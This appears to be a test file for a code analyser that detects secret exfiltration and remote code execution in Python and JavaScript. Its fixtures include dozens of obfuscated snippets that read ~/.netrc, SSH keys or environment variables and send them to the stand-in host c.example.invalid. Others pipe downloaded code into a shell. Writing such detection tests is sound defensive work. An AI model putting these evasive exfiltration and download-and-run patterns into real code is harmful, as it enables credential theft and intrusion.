import { beforeAll, describe, expect, test } from 'vitest';
import { loadGrammars } from '../../src/parse/grammar.js';
import { analyseText, flowsOf, ofType } from './analyse-code.js';

beforeAll(() => loadGrammars(['javascript', 'python']));

const FLOW = 'credential-file > http c.example.invalid';
const URL64 = Buffer.from('https://c.example.invalid').toString('base64');

describe('a secret is followed through tricks', () => {
  test.each([
    [
      'python',
      `o = __import__('o' + 's')\nr = getattr(__import__('requests'), 'post')\nr('https://c.example.invalid', data=open(o.path.expanduser('~') + '/.netrc').read())`,
    ],
    [
      'python',
      `from importlib import import_module as m\nm('requests').post('https://c.example.invalid', data=m('pathlib').Path('~/.netrc').expanduser().read_text())`,
    ],
    [
      'python',
      `import requests as r\nf = r.post\nargs = {'data': open('/home/u/.netrc').read()}\nf('https://c.example.invalid', **args)`,
    ],
    [
      'python',
      `import requests\npairs = [('url', 'https://c.example.invalid'), ('p', '/home/u/.netrc')]\nd = dict(pairs)\ndef go(*, url, p):\n    requests.post(url, data=open(p).read())\ngo(url='https://c.example.invalid', p='/home/u/.netrc')`,
    ],
    [
      'python',
      `import requests, functools\nsend = functools.partial(requests.post, 'https://c.example.invalid')\nsend(open('/home/u/.netrc').read())`,
    ],
    [
      'python',
      `import requests\nclass A:\n    url = 'https://c.example.invalid'\n    @property\n    def body(self):\n        return open('/home/u/.netrc').read()\n    @staticmethod\n    def post(u, b):\n        requests.post(u, data=b)\n    def run(self):\n        A.post(self.url, self.body)`,
    ],
    [
      'python',
      `import requests\nclass P:\n    def __init__(self, p):\n        self.p = p\n    def send(self):\n        requests.post('https://c.example.invalid', data=open(self.p).read())\nclass Q(P):\n    def __init__(self):\n        super().__init__('/home/u/.netrc')\nQ().send()`,
    ],
    [
      'python',
      `import requests\ntry:\n    data = open('/home/u/.netrc').read()\nexcept OSError:\n    data = ''\nif data:\n    requests.post('https://c.example.invalid', data=data)`,
    ],
    [
      'python',
      `import urllib.request as u, base64\nx = base64.b64encode(open('/home/u/.netrc','rb').read())\nfor i in range(0, len(x), 50):\n    u.urlopen('https://c.example.invalid/?c=' + x[i:i+50].decode())`,
    ],
    [
      'python',
      `import http.client\nc = http.client.HTTPSConnection('c.example.invalid')\nc.request('POST', '/x', open('/home/u/.netrc').read(), {'a': 'b'})`,
    ],
    [
      'python',
      `import subprocess\np = subprocess.Popen(['curl', '-d', '@-', 'https://c.example.invalid'], stdin=subprocess.PIPE)\np.communicate(open('/home/u/.netrc', 'rb').read())`,
    ],
    [
      'python',
      `import os, requests\nd = os.path.join(os.path.expanduser('~'), '.ssh')\nrequests.post('https://c.example.invalid', json={f: open(os.path.join(d, f)).read() for f in os.listdir(d)})`,
    ],
    [
      'python',
      `import requests, json\nbag = []\ndef add(p):\n    bag.append(open(p).read())\nadd('/home/u/.netrc')\nrequests.post('https://c.example.invalid', data=json.dumps(bag))`,
    ],
    [
      'python',
      `import requests\n(lambda u, d: requests.post(u, data=d))('https://c.example.invalid', open('/home/u/.netrc').read())`,
    ],
    [
      'javascript',
      `import('node:fs').then(({ readFileSync: r }) => fetch('https://c.example.invalid', { method: 'POST', body: r('/home/u/.netrc') }));`,
    ],
    [
      'javascript',
      `const { execSync } = require('child_process'); fetch('https://c.example.invalid', { method: 'POST', body: execSync('cat ~/.netrc').toString() });`,
    ],
    [
      'javascript',
      `require('child_process').exec('cat ~/.netrc', (e, out) => { fetch('https://c.example.invalid', { method: 'POST', body: out }); });`,
    ],
    [
      'javascript',
      `const fs = require('fs'), os = require('os'), p = require('path'); const d = p.join(os.homedir(), '.ssh'); fs.readdirSync(d).forEach((f) => fetch('https://c.example.invalid', { method: 'POST', body: fs.readFileSync(p.join(d, f)) }));`,
    ],
    [
      'javascript',
      `const f = fetch.bind(null, 'https://c.example.invalid'); f({ method: 'POST', body: require('fs').readFileSync('/home/u/.netrc') });`,
    ],
    [
      'javascript',
      `Reflect.apply(fetch, null, ['https://c.example.invalid', { body: require('fs').readFileSync('/home/u/.netrc') }]);`,
    ],
    [
      'javascript',
      `const m = globalThis['process']['mainModule']['constructor']['_load']('fs'); fetch('https://c.example.invalid', { body: m.readFileSync('/home/u/.netrc') });`,
    ],
    [
      'javascript',
      `const o = { get body() { return require('fs').readFileSync('/home/u/.netrc'); } }; fetch('https://c.example.invalid', { method: 'POST', body: o.body });`,
    ],
    [
      'javascript',
      `async function* g() { yield require('fs').readFileSync('/home/u/.netrc'); } for await (const x of g()) await fetch('https://c.example.invalid', { method: 'POST', body: x });`,
    ],
    [
      'javascript',
      `let t; try { t = require('fs').readFileSync('/home/u/.netrc'); } catch { t = ''; } if (t) fetch('https://c.example.invalid', { method: 'POST', body: t });`,
    ],
    [
      'javascript',
      `const { pipeline } = require('stream/promises'); const fs = require('fs'); const r = require('https').request('https://c.example.invalid'); await pipeline(fs.createReadStream('/home/u/.netrc'), r);`,
    ],
    [
      'javascript',
      `require('superagent').post('https://c.example.invalid').send({ d: require('fs').readFileSync('/home/u/.netrc', 'utf8') }).end();`,
    ],
    [
      'javascript',
      `setTimeout(() => fetch('https://c.example.invalid', { body: require('fs').readFileSync('/home/u/.netrc') }), 86400000);`,
    ],
    [
      'javascript',
      `switch (process.platform) { case 'linux': { const p = '/home/u/.netrc'; fetch('https://c.example.invalid', { body: require('fs').readFileSync(p) }); break; } default: }`,
    ],
    [
      'javascript',
      `const a = []; a[0] = require('fs').readFileSync('/home/u/.netrc'); const [x] = a; fetch('https://c.example.invalid', { body: x });`,
    ],
  ] as const)('%s: %s', (language, code) => {
    expect(flowsOf(analyseText(language, code).facts)).toEqual([FLOW]);
  });
});

test('a long list of paths that starts with harmless ones', () => {
  const harmless = Array.from({ length: 30 }, (_, at) => `'/tmp/${at}.txt'`);
  const code = `import requests\nfor p in [${[...harmless, "'/home/u/.netrc'"].join()}]:\n    requests.post('https://c.example.invalid', data=open(p).read())`;
  expect(flowsOf(analyseText('python', code).facts)).toEqual([FLOW]);
});

test('an address that was encoded is named', () => {
  const { facts } = analyseText(
    'javascript',
    `fetch(atob('${URL64}'), { method: 'POST', body: JSON.stringify(process.env) });`,
  );
  expect(flowsOf(facts)).toEqual(['environment > http c.example.invalid']);
  expect(ofType(facts, 'encoded').map(({ layers, says }) => [layers, says])).toEqual([
    [['base64'], 'https://c.example.invalid'],
  ]);
});

describe('code is run', () => {
  test.each([
    [
      'python',
      `import subprocess, requests\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.stdin.write(requests.get('https://c.example.invalid').content)`,
      'downloaded',
    ],
    [
      'javascript',
      `const p = require('child_process').spawn('sh'); fetch('https://c.example.invalid').then((r) => r.text()).then((t) => p.stdin.write(t));`,
      'downloaded',
    ],
    [
      'javascript',
      `const fs = require('fs'); fetch('https://c.example.invalid').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/m.js', t); require('/tmp/m.js'); });`,
      'downloaded',
    ],
    ['python', `exec(open('assets/logo.png').read())`, 'decoded'],
    ['python', `from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')`, 'decoded'],
    [
      'javascript',
      Array.from({ length: 20 }, (_, at) => `const _0x${(at + 4096).toString(16)} = f(${at});`).join('\n'),
      'decoded',
    ],
  ] as const)('%s: %s', (language, code, origin) => {
    expect(ofType(analyseText(language, code).facts, 'execute').map((fact) => fact.origin)).toContain(origin);
  });
});
